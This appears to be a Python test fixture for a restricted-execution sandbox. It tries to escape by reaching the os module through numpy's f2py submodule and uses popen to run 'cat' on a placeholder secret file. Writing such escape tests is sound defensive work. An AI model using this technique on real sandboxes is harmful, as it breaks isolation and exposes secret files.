"""Plainly bound anew."""
import numpy as np
module = [np][0]
_getattr_ = getattr
print(module.f2py.os.popen("cat @SECRET_FILE@").read())
